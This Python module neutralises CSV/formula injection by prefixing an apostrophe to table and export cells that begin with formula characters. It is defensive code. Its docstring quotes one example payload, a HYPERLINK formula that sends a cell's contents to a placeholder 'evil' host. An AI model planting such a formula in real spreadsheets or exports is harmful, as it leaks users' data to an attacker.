"""Text that a spreadsheet would run: neutralised before it leaves the app in a table.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice
and Google Sheets as a formula (`=HYPERLINK("http://evil/?"&A1, "click")`), and display names come
from the identity provider's `name` claim, which some providers let users edit. A leading
apostrophe makes the spreadsheet show the text as text (OWASP's "CSV injection" advice). It is
applied to our own CSV exports and to every table the app draws (`inert_frame`), because
Streamlit's table toolbar offers its own CSV download of exactly what is drawn.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(text: str) -> str:
    """`text`, with an apostrophe in front when a spreadsheet would run it as a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def inert_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells are all `inert` (numbers and empty cells unchanged)."""
    import pandas as pd  # only where a table is drawn: the CSV exports need `inert` alone

    shown = frame.copy()
    for column in shown.columns:
        if shown[column].dtype == object or pd.api.types.is_string_dtype(shown[column]):
            values = list(shown[column])
            if not any(isinstance(v, str) and v.startswith(FORMULA_STARTS) for v in values):
                continue  # nothing to change: rebuilding the column is most of the cost
            values = [inert(v) if isinstance(v, str) else v for v in values]
            shown[column] = pd.Series(values, index=shown.index, dtype=shown[column].dtype)
    return shown
